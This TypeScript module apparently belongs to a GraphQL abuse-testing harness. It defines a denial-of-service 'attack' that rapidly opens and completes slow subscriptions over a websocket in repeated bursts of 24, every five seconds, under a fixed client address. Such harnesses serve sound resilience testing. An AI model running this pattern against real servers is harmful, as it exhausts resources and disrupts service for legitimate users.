import type { Attack } from './attack.ts';
import { openGraphqlSocket } from './graphql-socket.ts';
import { persistently } from './persistently.ts';
import { slowOperation } from './slow-pattern.ts';

const CYCLES = 24;
const CYCLE_MS = 50;
/** Milliseconds between the starts of two rows of cycles. */
const AGAIN_MS = 5_000;
const ADDRESS = '203.0.113.3';

/** Begins and completes subscriptions whose statement takes seconds: 24 of them, one after the other, every 5 s. */
export const subscribeCycles: Attack = ({ url }) =>
  persistently(async (count) => {
    const { socket, subscribe, complete } = await openGraphqlSocket({ url, address: ADDRESS }, ({ type }) =>
      count(type),
    );
    let serial = 0;
    const cycle = () => {
      if (socket.readyState !== socket.OPEN) return;
      serial += 1;
      const id = String(serial);
      subscribe(id, slowOperation('subscription'));
      setTimeout(() => {
        if (socket.readyState === socket.OPEN) complete(id);
        if (serial % CYCLES !== 0) cycle();
      }, CYCLE_MS).unref();
    };
    cycle();
    const timer = setInterval(cycle, AGAIN_MS);
    socket.once('close', () => clearInterval(timer));

    return socket;
  });
